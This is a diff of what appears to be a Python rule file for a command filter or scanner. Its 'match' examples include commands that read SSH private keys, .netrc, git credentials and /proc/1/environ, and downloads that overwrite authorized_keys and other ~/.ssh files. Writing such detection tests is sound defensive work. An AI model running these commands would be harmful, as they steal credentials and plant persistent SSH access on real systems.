@@ -159,7 +159,7 @@ RULES = (
             "socat -u OPEN:/home/somebody/.ssh/id_rsa STDOUT",
             "lynx -dump ~/.netrc",
             "w3m /home/somebody/.git-credentials",
-            "curl file:///root/.ssh/id_ed25519",
+            "curl file:///home/other/.ssh/id_ed25519",
             "curl file:///proc/1/environ",
         ),
         not_match=(
@@ -323,8 +323,8 @@ RULES = (
         match=(
             "curl https://example.com/k -o ~/.ssh/authorized_keys",
             "wget -O ~/.ssh/config https://example.com/c",
-            "curl -o /root/.ssh/authorized_keys https://example.com/k",
-            "wget -O /home/other/.ssh/authorized_keys https://example.com/k",
+            "curl -o /home/other/.ssh/authorized_keys https://example.com/k",
+            "wget -O /home/another/.ssh/authorized_keys https://example.com/k",
             "curl -o ~/.ssh/rc https://example.com/rc",
             "curl -o ~/.ssh/environment https://example.com/e",
         ),
